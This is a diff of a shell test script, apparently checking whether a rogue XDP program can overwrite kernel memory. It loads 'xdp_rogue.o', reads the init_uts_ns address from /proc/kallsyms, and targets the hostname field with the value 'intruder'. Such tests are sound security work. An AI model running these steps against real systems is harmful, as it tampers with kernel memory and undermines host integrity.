@@ -11,9 +11,9 @@ rogue() { # level
 	in_b ip link set b1 xdp object "$bin/xdp_rogue.o" section xdp || die "cannot load the rogue"
 	echo 0 >$bypass
 	index=$(in_b cat /sys/class/net/b1/ifindex)
-	# nodename follows sysname[65] in init_uts_ns
+	# nodename follows sysname[0x41] in init_uts_ns
 	start=$(sed -n 's/^\([0-9a-f]*\) . init_uts_ns$/\1/p' /proc/kallsyms)
-	in_b "$bin/counts" "$index" target 0 "$(printf %x $((0x$start + 65)))"
+	in_b "$bin/counts" "$index" target 0 "$start+41"
 	in_b "$bin/counts" "$index" target 1 7265647572746e69 # "intruder", little endian
 	hostname=untouched
 	echo $hostname >/proc/sys/kernel/hostname
